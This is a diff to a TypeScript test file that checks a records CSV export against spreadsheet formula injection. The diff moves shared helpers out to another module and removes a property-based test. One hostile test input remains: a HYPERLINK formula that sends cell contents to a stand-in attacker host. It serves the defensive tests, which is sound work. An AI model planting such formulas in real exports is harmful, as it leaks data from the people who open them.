@@ -1,8 +1,6 @@
-import { parse } from 'csv-parse/sync';
-import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, CSV_HEADERS_ES, type CsvColumn, csvStringifier } from '../src/modules/records/export.js';
-import { CELL_START_CHARS, expectedCell, FORMULA_CHARS } from './csv.js';
+import { CSV_COLUMNS, CSV_HEADERS_ES, type CsvColumn } from '../src/modules/records/export.js';
+import { assertNoFormula, DIALECTS, expectedCell, FORMULA_CHARS, parseCsv } from './csv.js';
 import { createMember, DashboardBrowser, PASSWORD } from './dashboard-client.js';
 import { api, createTenant, startTestApp, type Tenant, type TestContext, validRecord } from './helpers.js';
 
@@ -13,31 +11,8 @@ import { api, createTenant, startTestApp, type Tenant, type TestContext, validRe
  * every record is exactly one row, and quotes and both separators survive, in both CSV forms.
  */
 
-/** Every line of a cell (as a reader splitting on line breaks would see it) starts harmlessly. */
-function assertNoFormula(cell: string) {
-  expect(CELL_START_CHARS.has(cell[0] ?? ''), JSON.stringify(cell)).toBe(false);
-  for (const line of cell.split(/\r\n|\r|\n/).slice(1)) {
-    expect(FORMULA_CHARS.has(line[0] ?? ''), JSON.stringify(cell)).toBe(false);
-  }
-}
-
-const DIALECTS = [
-  { dialect: 'es', delimiter: ';' },
-  { dialect: 'plain', delimiter: ',' },
-] as const;
-
 /** A column's header in a form: Spanish in `es`, the API's field name in `plain`. */
 const header = (dialect: 'es' | 'plain', column: CsvColumn) => (dialect === 'es' ? CSV_HEADERS_ES[column] : column);
-
-/**
- * Read as a spreadsheet does: a CRLF, a lone LF or a lone CR outside quotes ends a row (csv-parse
- * alone would settle on the first one it meets and keep the others as text).
- */
-const parseCsv = (body: string, delimiter: string) =>
-  parse(body, { bom: true, delimiter, columns: true, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true }) as Record<
-    string,
-    string
-  >[];
 
 const HOSTILE = [
   'a\n=HYPERLINK("https://evil.example/?"&A1,"click")',
@@ -137,49 +112,4 @@ describe('records CSV export: formula injection', () => {
     expect(raw).toContain('"comma, semicolon; ""double quotes"" and \'single\'"');
     expect(raw).toContain(`"Noche\n'=1+1"`);
   });
-});
-
-describe('the export writer, as a property', () => {
-  // Text biased towards what breaks CSV and starts formulas, mixed with any other character.
-  const hostileChar = fc.oneof(
-    {
-      weight: 3,
-      arbitrary: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', "'", ' ', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'),
-    },
-    { weight: 2, arbitrary: fc.constantFrom('a', 'Z', '1', 'ñ', '€') },
-    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
-  );
-  const hostileText = fc.array(hostileChar, { maxLength: 24 }).map((cs) => cs.join('').replaceAll('\u0000', ''));
-  const rowOf = fc.array(hostileText, { minLength: CSV_COLUMNS.length, maxLength: CSV_COLUMNS.length });
-
-  const write = async (dialect: 'es' | 'plain', rows: string[][]) => {
-    const csv = csvStringifier(dialect);
-    const chunks: Buffer[] = [];
-    csv.on('data', (c: Buffer) => chunks.push(Buffer.from(c)));
-    const done = new Promise<void>((resolve, reject) => {
-      csv.on('end', resolve);
-      csv.on('error', reject);
-    });
-    for (const r of rows) csv.write(r);
-    csv.end();
-    await done;
-    return Buffer.concat(chunks).toString('utf8');
-  };
-
-  it.each(DIALECTS)(
-    'any texts: one row each, read back as the guarded text, no cell starting a formula ($dialect)',
-    async ({ dialect, delimiter }) => {
-      await fc.assert(
-        fc.asyncProperty(fc.array(rowOf, { minLength: 1, maxLength: 5 }), async (rows) => {
-          const parsed = parseCsv(await write(dialect, rows), delimiter);
-          expect(parsed).toHaveLength(rows.length);
-          parsed.forEach((row, i) => {
-            expect(Object.values(row)).toEqual((rows[i] as string[]).map(expectedCell));
-            for (const cell of Object.values(row)) assertNoFormula(cell);
-          });
-        }),
-        { seed: 20261123, numRuns: 300 },
-      );
-    },
-  );
 });
